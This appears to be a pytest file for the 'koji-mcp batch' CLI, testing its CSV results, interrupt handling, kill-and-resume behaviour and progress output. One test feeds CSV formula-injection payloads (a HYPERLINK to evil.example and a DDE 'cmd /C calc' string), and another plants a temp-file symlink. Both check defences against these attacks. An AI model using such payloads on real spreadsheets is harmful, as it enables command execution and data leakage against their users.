"""`koji-mcp batch` as a real subprocess against the real sandbox: results, Ctrl-C, kill -9 + resume."""

from __future__ import annotations

import csv
import os
import signal
import sqlite3
import subprocess
import time
from collections import Counter
from pathlib import Path

import httpx

from koji_mcp.interviews.ledger import Ledger
from koji_mcp.sandbox import DEMO_KEY
from tests.conftest import koji_mcp_command, subprocess_env

START = "/api/v1/interviews/start"


def write_csv(path: Path, n: int) -> Path:
    path.write_text("external_id,display_name,plan,seats\n" + "".join(f"u{i},User {i},pro,{i}\n" for i in range(n)))
    return path


def run(args: list[str], sandbox, state: Path, **kw) -> subprocess.CompletedProcess:
    env = subprocess_env(KOJI_API_KEY=DEMO_KEY, KOJI_BASE_URL=sandbox.base_url, KOJI_MCP_STATE_DIR=str(state))
    return subprocess.run([*koji_mcp_command(), "batch", *args], env=env, capture_output=True, text=True,
                          timeout=60, stdin=subprocess.DEVNULL, **kw)


def popen(args: list[str], sandbox, state: Path) -> subprocess.Popen:
    env = subprocess_env(KOJI_API_KEY=DEMO_KEY, KOJI_BASE_URL=sandbox.base_url, KOJI_MCP_STATE_DIR=str(state))
    return subprocess.Popen([*koji_mcp_command(), "batch", *args], env=env, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, stdin=subprocess.DEVNULL)


def started(sandbox) -> Counter:
    return Counter(r["json"]["respondent"]["external_id"] for r in sandbox.requests() if r["path"] == START)


def results(path: Path) -> list[dict]:
    with open(path, newline="") as handle:
        return list(csv.DictReader(handle))


def test_batch_writes_results_and_types_metadata(sandbox, tmp_path) -> None:
    src = write_csv(tmp_path / "people.csv", 5)
    proc = run([str(src), "--mode", "text", "--locale", "es"], sandbox, tmp_path / "state")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines()[-1] == f"5 participant(s): 5 started. Results: {tmp_path / 'people.results.csv'}"
    rows = results(tmp_path / "people.results.csv")
    assert [r["outcome"] for r in rows] == ["started"] * 5 and all(r["interview_id"] for r in rows)
    body = next(r["json"] for r in sandbox.requests() if r["json"]["respondent"]["external_id"] == "u3")
    assert body == {"respondent": {"external_id": "u3", "display_name": "User 3", "metadata": {"plan": "pro", "seats": 3}},
                    "mode": "text", "locale": "es"}
    again = run([str(src), "--out", str(tmp_path / "again.csv")], sandbox, tmp_path / "state")
    assert again.returncode == 0 and "5 skipped" in again.stdout
    assert started(sandbox) == Counter({f"u{i}": 1 for i in range(5)})


def test_dry_run_and_bad_input(sandbox, tmp_path) -> None:
    src = write_csv(tmp_path / "people.csv", 3)
    dry = run([str(src), "--dry-run"], sandbox, tmp_path / "state")
    assert dry.returncode == 0 and "dry run: 3 participant(s): 3 would start." in dry.stdout
    assert sandbox.requests() == []
    bad = tmp_path / "bad.csv"
    bad.write_text("email\nx@y\n")
    proc = run([str(bad)], sandbox, tmp_path / "state")
    assert proc.returncode == 2 and proc.stdout == ""
    assert proc.stderr.startswith("koji-mcp batch: ") and "external_id and/or display_name" in proc.stderr


def test_ctrl_c_finishes_in_flight_starts_and_records_them(sandbox, tmp_path) -> None:
    src = write_csv(tmp_path / "people.csv", 40)
    sandbox.fault(path=START, delay=0.15, times=1000)  # slow Koji down so there is time to interrupt
    proc = popen([str(src), "--concurrency", "2"], sandbox, tmp_path / "state")
    time.sleep(1.5)
    proc.send_signal(signal.SIGINT)
    out, err = proc.communicate(timeout=30)
    assert proc.returncode == 1, err
    assert "stopping: finishing the starts in flight" in err
    rows = results(tmp_path / "people.results.csv")
    kinds = Counter(r["outcome"] for r in rows)
    assert set(kinds) == {"started", "not_reached"} and kinds["started"] >= 2
    db = sqlite3.connect(tmp_path / "state" / "ledger.sqlite3")
    assert db.execute("SELECT COUNT(*) FROM interviews WHERE status = 'starting'").fetchone()[0] == 0
    assert db.execute("SELECT COUNT(*) FROM interviews WHERE status = 'active'").fetchone()[0] == kinds["started"]
    assert sum(started(sandbox).values()) == kinds["started"]  # nothing in flight was lost


def test_kill_9_halfway_then_resume_starts_nobody_twice(sandbox, tmp_path) -> None:
    src = write_csv(tmp_path / "people.csv", 30)
    sandbox.fault(path=START, delay=0.1, times=1000)
    proc = popen([str(src), "--concurrency", "3"], sandbox, tmp_path / "state")
    deadline = time.monotonic() + 20  # kill once starts are under way (startup takes ~1 s on a busy machine)
    while sum(started(sandbox).values()) < 3 and time.monotonic() < deadline:
        time.sleep(0.05)
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait(10)
    time.sleep(0.3)  # let requests that were in flight at the kill reach the sandbox
    first = started(sandbox)
    assert 0 < sum(first.values()) < 30

    httpx.delete(f"{sandbox.base_url}/_sandbox/faults")
    resumed = run([str(src)], sandbox, tmp_path / "state")
    rows = results(tmp_path / "people.results.csv")
    kinds = Counter(r["outcome"] for r in rows)
    final = started(sandbox)
    assert max(final.values()) == 1, "no participant may be started twice"
    assert kinds["started"] + kinds["skipped"] + kinds["unknown"] == 30
    resumed_ids = {r["external_id"] for r in rows if r["outcome"] == "started"}
    assert resumed_ids.isdisjoint(first)
    unknown = {r["external_id"] for r in rows if r["outcome"] == "unknown"}
    assert len(unknown) <= 3  # those in flight at the kill: reported as unknown, never re-sent
    assert set(final) | unknown == {f"u{i}" for i in range(30)}
    assert resumed.returncode == (1 if unknown else 0)  # an unsettled start is not "done"


def test_a_terminal_gets_a_progress_bar(sandbox, tmp_path) -> None:
    import pty

    src = write_csv(tmp_path / "people.csv", 3)
    master, slave = pty.openpty()
    env = subprocess_env(KOJI_API_KEY=DEMO_KEY, KOJI_BASE_URL=sandbox.base_url, KOJI_MCP_STATE_DIR=str(tmp_path / "s"))
    proc = subprocess.Popen([*koji_mcp_command(), "batch", str(src)], env=env, stdin=subprocess.DEVNULL,
                            stdout=subprocess.PIPE, stderr=slave, text=True)
    os.close(slave)
    out, _ = proc.communicate(timeout=60)
    chunks = []
    while True:
        try:
            data = os.read(master, 4096)
        except OSError:
            break
        if not data:
            break
        chunks.append(data)
    os.close(master)
    screen = b"".join(chunks).decode()
    assert proc.returncode == 0
    assert "\r[" + "#" * 30 + "] 3/3  started 3  skipped 0  failed 0  unknown 0" in screen
    assert "row 1" not in out  # the per-row lines are for pipes, the bar for terminals
    assert out.strip().startswith("3 participant(s): 3 started.")


def test_batch_refuses_an_unwritable_results_path_before_sending(sandbox, tmp_path) -> None:
    src = tmp_path / "p.csv"
    src.write_text("external_id\nu1\n")
    proc = subprocess.run(
        [*koji_mcp_command(), "batch", str(src), "--out", str(tmp_path / "missing" / "out.csv")],
        env=subprocess_env(KOJI_API_KEY=DEMO_KEY, KOJI_BASE_URL=sandbox.base_url, KOJI_MCP_STATE_DIR=str(tmp_path)),
        capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)
    assert proc.returncode == 2
    assert proc.stderr.startswith(f"koji-mcp batch: cannot write results to {tmp_path / 'missing' / 'out.csv'}")
    assert sandbox.requests() == []
    assert Ledger.open(str(tmp_path), sandbox.base_url).list()[1] == 0


def test_results_csv_neutralises_spreadsheet_formulas(sandbox, tmp_path) -> None:
    src = tmp_path / "people.csv"
    src.write_text('external_id,display_name\n"=HYPERLINK(""http://evil.example/?x=1"",""click"")",Ann\n'
                   "@SUM(1),+1 555\n-2+3,-Dee\nplain,=Bob\n")
    sandbox.fault(path=START, status=400, json={"error": "invalid_request", "message": "=cmd|' /C calc'!A0"})
    proc = run([str(src), "--concurrency", "1"], sandbox, tmp_path / "state")
    assert proc.returncode == 1, proc.stderr
    with open(tmp_path / "people.results.csv", newline="") as handle:
        rows = [(r["external_id"], r["display_name"], r["outcome"], r["message"]) for r in csv.DictReader(handle)]
    assert rows == [
        ("'=HYPERLINK(\"http://evil.example/?x=1\",\"click\")", "Ann", "failed", "'=cmd|' /C calc'!A0"),
        ("'@SUM(1)", "'+1 555", "started", ""),
        ("'-2+3", "'-Dee", "started", ""),
        ("plain", "'=Bob", "started", ""),
    ]
    # what was sent to Koji is the participant's real id, not the neutralised cell
    assert started(sandbox) == Counter({'=HYPERLINK("http://evil.example/?x=1","click")': 1, "@SUM(1)": 1,
                                        "-2+3": 1, "plain": 1})


def test_results_are_not_written_through_a_planted_tmp_symlink(sandbox, tmp_path) -> None:
    src = write_csv(tmp_path / "people.csv", 2)
    victim, kept = tmp_path / "victim.txt", tmp_path / "kept.txt"
    kept.write_text("precious\n")
    planted = tmp_path / "people.results.csv.tmp"
    planted.symlink_to(victim)
    (tmp_path / "people.results.csv.tmp.tmp").symlink_to(kept)
    proc = run([str(src)], sandbox, tmp_path / "state")
    assert proc.returncode == 0, proc.stderr
    assert not victim.exists() and kept.read_text() == "precious\n"  # no link was followed
    assert planted.is_symlink() and os.readlink(planted) == str(victim)  # nor removed
    out = tmp_path / "people.results.csv"
    assert not out.is_symlink() and [r["outcome"] for r in results(out)] == ["started", "started"]
    leftovers = sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp"))
    assert leftovers == ["people.results.csv.tmp", "people.results.csv.tmp.tmp"]
